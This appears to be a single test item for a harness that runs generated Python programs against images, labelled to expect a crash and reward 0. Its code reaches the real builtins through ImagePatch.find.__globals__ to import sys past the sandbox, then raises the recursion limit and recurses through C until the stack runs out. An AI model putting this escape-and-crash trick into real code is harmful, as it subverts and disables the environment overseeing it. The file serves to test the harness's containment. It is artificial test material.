# expect: crash|memory|runtime_error|timeout
# tries: lifts the recursion limit and recurses through C until the stack ends
# gold: SECRET
# reward: 0
load = ImagePatch.find.__globals__["__builtins__"]["__import__"]


def execute_command(image):
    load("sys").setrecursionlimit(10**8)

    def deeper(item):
        return sorted([item], key=deeper)

    return str(deeper(0))
